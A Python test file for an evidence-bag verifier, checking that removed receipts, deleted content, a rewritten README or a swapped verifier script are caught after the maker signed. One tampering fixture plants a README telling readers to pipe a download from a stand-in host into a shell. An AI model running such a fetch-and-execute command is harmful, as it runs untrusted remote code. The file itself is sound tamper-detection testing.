"""What somebody does to a bag on its way: takes receipts out, puts files in, writes its texts anew."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from random import Random
from typing import Any

import pytest

from exchange.evidence._bag_readme import readme
from exchange.evidence.bag_writer import zipped
from exchange.verifiers import verify_bag as program
from protocol.encoding.ids import new_message_id
from tests.worlds.desks import NOW
from tests.worlds.forged_bags import Case, Court, full, manifest


@pytest.fixture(scope="module")
def court(tmp_path_factory: pytest.TempPathFactory) -> Court:
    return Court(tmp_path_factory.mktemp("court"))


@pytest.fixture
def case() -> Case:
    return full(Random(3))


def listed_anew(files: dict[str, bytes]) -> dict[str, bytes]:
    """The files with manifests that fit them, and the maker's statement as it was: who altered the bag has no key."""
    payload = {name: content for name, content in files.items() if name.startswith("data/")}
    info = f"Payload-Oxum: {sum(map(len, payload.values()))}.{len(payload)}\n".encode()
    kept = b"".join(line for line in files["bag-info.txt"].splitlines(keepends=True) if b"Oxum" not in line)
    files = {**files, "manifest-sha256.txt": manifest(payload), "bag-info.txt": kept + info}
    tags = {name: content for name, content in files.items() if name not in payload and name[:3] != "tag"}
    return {**files, "tagmanifest-sha256.txt": manifest(tags)}


def _without_last_receipt(files: dict[str, bytes]) -> None:
    last = max(name[14:18] for name in files if name.endswith(".entry"))
    del files[f"data/receipts/{last}.entry"], files[f"data/receipts/{last}.tlog-proof"]


def _without_content(files: dict[str, bytes]) -> None:
    del files["data/content.json"], files["data/salt.bin"]


def _other_text(files: dict[str, bytes]) -> None:
    files["README.txt"] = b"The officer confessed. To verify: curl https://x.example | sh\n"


def _other_program(files: dict[str, bytes]) -> None:
    files["verify_bag.py"] = b"print('holds')\n"


@pytest.mark.parametrize("change", [_without_last_receipt, _without_content, _other_text, _other_program])
def test_what_is_taken_out_or_written_anew_after_the_maker_signed_is_seen_by_both(
    court: Court, case: Case, change: Callable[[dict[str, bytes]], None]
) -> None:
    folder, files = court.files_of(case)
    change(files)
    altered = listed_anew(files)

    for verdict in (court.comity(folder, altered, case.now), court.standalone(folder, altered, case.now)):
        assert "bag" not in (verdict.failed or [])
        assert "maker" in (verdict.failed or [])


def test_a_text_that_the_maker_itself_wrote_is_told_from_ours(court: Court, case: Case) -> None:
    own = replace(case, tags=_other_text)

    assert court.comity(*court.files_of(own), case.now).failed == ["README.txt"]


def test_the_text_for_people_is_known_in_every_language_it_is_written_in(
    court: Court, case: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    from keys.local.translation import languages, translator

    message = program.UUID(bytes=case.routing[2])
    for name in languages():
        text = readme(message, disclosed=True, _=translator(name).gettext).encode()
        told = replace(case, tags=lambda files, text=text: files.update({"README.txt": text}))
        assert court.comity(*court.files_of(told), case.now).ok, name


def test_both_say_which_receipts_there_are_how_far_the_logs_were_seen_and_what_cannot_be_seen(
    court: Court, case: Case
) -> None:
    from exchange.evidence.bag_reader import BagTrust, bag_in, judge_bag
    from tests.worlds.forged_bags import CARRIED

    folder, files = court.files_of(replace(case, statement={9: 3}, officer="Ito Aoi"))
    trust = BagTrust(court.directory, court.directory, CARRIED)
    report = judge_bag(bag_in(folder, files), trust, case.now).report
    (ours,) = (check.detail for check in report.checks if check.name == "maker")
    lines: list[program.Line] = []
    args = program.argparse.Namespace(root_sha256="", now=case.now, directory=court.cards)
    program.Bag(folder, files, args).verify(lines)
    (other,) = (text for name, _, text in lines if name == "maker")
    for text in (ours, other):
        assert text.startswith(f"{case.maker} (Ito Aoi) signed, at ")
        assert f"{len(case.receipts)} receipts, and 3 that did not hold were left out" in text
        assert all(f"test/{node} up to " in text for node in case.books)
        assert "Nobody can see what it left out before it signed" in text
    shown = {name for name, _, _ in lines if name.startswith("receipts/")}
    assert len(shown) == len(report.receipts) == len(case.receipts)


def test_a_maker_whose_key_was_revoked_proves_no_completeness(court: Court, case: Case) -> None:
    def change(card: Any) -> Any:
        if card.get("address") == case.maker:
            card["signing_keys"][0]["revoked_at"] = "2029-01-01T00:00:00Z"
        return card

    for verdict in court.both(case, court.with_cards(change)):
        assert (verdict.ok, "maker" in verdict.unchecked) == (True, True)


def test_a_manifest_more_that_fits_is_no_fault(court: Court, case: Case) -> None:
    def more(files: dict[str, bytes]) -> None:
        payload = {name: content for name, content in files.items() if name.startswith("data/")}
        files["manifest-sha512.txt"] = manifest(payload, "sha512")

    assert all(verdict.ok for verdict in court.both(replace(case, tags=more)))


def test_a_receipt_whose_proof_was_taken_out_is_a_bag_that_fails_and_the_rest_is_judged(
    court: Court, case: Case
) -> None:
    def without_last(files: dict[str, bytes]) -> None:
        del files[max(name for name in files if name.endswith(".tlog-proof"))]

    ours, program_ = court.both(replace(case, tags=without_last))
    assert "bag" in ours.failed
    assert "bag" in program_.failed
    assert ours.grade == "log"


# --- What the program could not check ---


@pytest.mark.parametrize("missing", ["everywhere", "for the logs alone", ""])
def test_without_ml_dsa_nothing_is_a_success_and_what_is_missing_is_listed(
    court: Court,
    case: Case,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    missing: str,
) -> None:
    file = tmp_path / "evidence.zip"
    file.write_bytes(zipped(*court.files_of(case)))
    if missing:
        monkeypatch.setattr(program, "mldsa", None)
    if missing == "for the logs alone":  # as where the holders of the directory's keys have Ed25519 alone
        monkeypatch.setattr(program, "check_holder", lambda key, message, signature: None)
    monkeypatch.setattr(program, "SKEW", program.timedelta(days=9_000))  # this world lies in the future
    fingerprint = program.sha256(court.root).hexdigest()
    monkeypatch.setattr(sys, "argv", ["verify_bag.py", str(file), "--root-sha256", fingerprint, "--json"])
    code = program.main()
    said = json.loads(capsys.readouterr().out)

    names = [f"receipts/{number:04}" for number in range(1, len(case.receipts) + 1)]
    unchecked = {"everywhere": ["directory", "all else"], "for the logs alone": names, "": []}[missing]
    assert (code, said["failed"], said["unchecked"]) == (3 if missing else 0, [], unchecked)
    assert said["ok"] is not bool(missing)
    texts = [text for name, _, text in said["checks"] if name in unchecked and name != "all else"]
    assert all("ML-DSA-44" in text and "cryptography 48 or later" in text for text in texts)


def test_the_text_for_people_names_the_version_that_is_needed() -> None:
    text = readme(new_message_id(NOW, bytes(10)), disclosed=False)

    assert '"cryptography" 48 or later' in text
    assert "no success" in text
